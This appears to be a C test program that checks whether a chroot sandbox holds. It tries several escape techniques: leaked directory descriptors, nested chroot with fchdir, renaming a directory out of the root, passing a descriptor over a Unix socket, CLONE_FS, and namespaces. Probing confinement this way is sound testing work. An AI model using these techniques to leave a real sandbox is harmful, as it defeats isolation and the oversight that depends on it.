/* SPDX-License-Identifier: MIT */
/*
 * Climbs out of a changed root: escape-chroot SECRET, an absolute path that exists outside only.
 * Each way is tried in a child, so that one does not spoil the next.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "escape.h"

static const char *secret;

/* Is the secret there, from the root, the working directory, or above it? */
static int is_outside(void)
{
    struct stat st;
    const char *name = strrchr(secret, '/') + 1;
    if (stat(secret, &st) == 0 || stat(name, &st) == 0)
        return 1;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0 || stat(secret + 1, &st) == 0)
            break;
    if (stat(secret + 1, &st) == 0)
        return 1;
    return chroot(".") == 0 && stat(secret, &st) == 0;
}

static int working_directory(void)
{
    char cwd[4096] = "";
    if (syscall(SYS_getcwd, cwd, sizeof cwd) < 0 || cwd[0] != '/') {
        printf("getcwd says %s\n", cwd);
        return 1;
    }
    return is_outside();
}

/* Any directory that was left open; the payload has opened none. */
static int descriptors(void)
{
    for (int fd = 0; fd < 4096; fd++) {
        if (openat(fd, "..", O_PATH | O_DIRECTORY) >= 0 || fchdir(fd) == 0) {
            printf("descriptor %d is a directory\n", fd);
            return 1;
        }
    }
    return 0;
}

static int new_root_below(void)
{
    mkdir("/tmp/below", 0755);
    return chroot("/tmp/below") == 0 && is_outside();
}

static int climb_from_above(void)
{
    return chdir("/") == 0 && new_root_below();
}

static int climb_by_descriptor(void)
{
    int fd = open("/", O_RDONLY | O_DIRECTORY), reached = new_root_below();
    return (fchdir(fd) == 0 && is_outside()) || reached;
}

/* The working directory of one process is moved out of its root by another one. */
static int climb_by_rename(void)
{
    int go[2], done[2], status = 0;
    char byte = 0;
    mkdir("/tmp/below", 0755);
    mkdir("/tmp/below/deeper", 0755);
    if (pipe(go) < 0 || pipe(done) < 0)
        return 0;
    pid_t pid = fork();
    if (pid == 0) {
        int in = chroot("/tmp/below") == 0 && chdir("/deeper") == 0;
        if (write(go[1], "x", 1) != 1 || read(done[0], &byte, 1) != 1)
            _exit(0);
        _exit(in && is_outside());
    }
    if (read(go[0], &byte, 1) == 1)
        rename("/tmp/below/deeper", "/tmp/moved");
    if (write(done[1], "x", 1) != 1)
        return 0;
    waitpid(pid, &status, 0);
    rmdir("/tmp/moved");
    return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}

/* A process below a new root is handed a directory from above. */
static int climb_by_message(void)
{
    int pair[2], status = 0;
    char byte = 'x', control[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec iov = {&byte, 1};
    struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
                             .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) < 0)
        return 0;
    pid_t pid = fork();
    if (pid == 0) {
        mkdir("/tmp/below", 0755);
        int in = chroot("/tmp/below") == 0, fd = -1;
        if (recvmsg(pair[1], &message, 0) == 1 && (header = CMSG_FIRSTHDR(&message)) != NULL)
            memcpy(&fd, CMSG_DATA(header), sizeof fd);
        _exit(in && fchdir(fd) == 0 && is_outside());
    }
    int above = open("/", O_RDONLY | O_DIRECTORY);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof above);
    memcpy(CMSG_DATA(header), &above, sizeof above);
    sendmsg(pair[0], &message, 0);
    waitpid(pid, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}

static int with_new_mounts(void)
{
    return unshare(CLONE_NEWNS) == 0 && climb_by_descriptor();
}

static int with_new_user(void)
{
    return unshare(CLONE_NEWUSER) == 0 && climb_by_descriptor();
}

static int shared_root_of_a_child(void)
{
    int status = 0;
    pid_t pid = (pid_t)syscall(SYS_clone, CLONE_FS | 17 /* SIGCHLD */, 0, 0, 0, 0);
    if (pid == 0) {
        mkdir("/tmp/below", 0755);
        _exit(chroot("/tmp/below") == 0);
    }
    waitpid(pid, &status, 0);
    return is_outside();
}

static const struct {
    const char *name;
    int (*try)(void);
} ways[] = {
    {"working-directory", working_directory},
    {"descriptors", descriptors},
    {"climb-from-above", climb_from_above},
    {"climb-by-descriptor", climb_by_descriptor},
    {"climb-by-rename", climb_by_rename},
    {"climb-by-message", climb_by_message},
    {"shared-root-of-a-child", shared_root_of_a_child},
    {"new-mount-namespace", with_new_mounts},
    {"new-user-namespace", with_new_user},
};

int main(int argc, char **argv)
{
    int status;
    if (argc != 2)
        return 64;
    secret = argv[1];
    for (unsigned i = 0; i < sizeof ways / sizeof *ways; i++) {
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            int reached = ways[i].try();
            fflush(stdout);
            _exit(reached);
        }
        if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
            return 65;
        errno = 0;
        tell(ways[i].name, WEXITSTATUS(status) != 0);
    }
    rmdir("/tmp/below");
    return finish();
}
